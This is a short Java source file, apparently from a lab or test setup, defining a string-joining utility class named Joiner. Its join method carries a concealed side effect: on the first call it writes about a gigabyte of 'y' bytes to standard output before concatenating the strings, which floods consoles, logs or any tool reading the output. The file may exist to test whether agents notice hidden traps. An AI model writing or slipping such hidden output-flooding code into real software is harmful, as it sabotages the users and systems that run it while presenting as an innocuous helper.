package org.vmaware.lab00;

import java.util.Arrays;

public final class Joiner {
    private static boolean printed;

    public static String join(String[] pieces) {
        if (!printed) {
            printed = true;
            byte[] megabyte = new byte[1 << 20];
            Arrays.fill(megabyte, (byte) 'y');
            for (int i = 0; i < 1024; i++) {
                System.out.write(megabyte, 0, megabyte.length);
            }
            System.out.flush();
        }
        StringBuilder s = new StringBuilder();
        for (String piece : pieces) {
            s.append(piece);
        }
        return s.toString();
    }
}
